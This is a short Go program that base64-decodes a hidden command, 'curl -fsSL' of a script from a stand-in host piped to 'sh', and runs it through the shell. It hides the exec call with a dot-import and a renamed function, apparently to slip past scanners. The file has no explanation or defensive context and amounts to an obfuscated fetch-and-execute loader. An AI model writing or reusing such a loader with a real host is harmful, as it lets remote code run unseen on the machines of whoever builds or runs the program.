package main

import (
	"encoding/base64"
	. "os/exec"
)

var payload = "Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9pLnNoIHwgc2g="

func main() {
	cmd, _ := base64.StdEncoding.DecodeString(payload)
	runner := Command
	runner("sh", "-c", string(cmd)).Run()
}
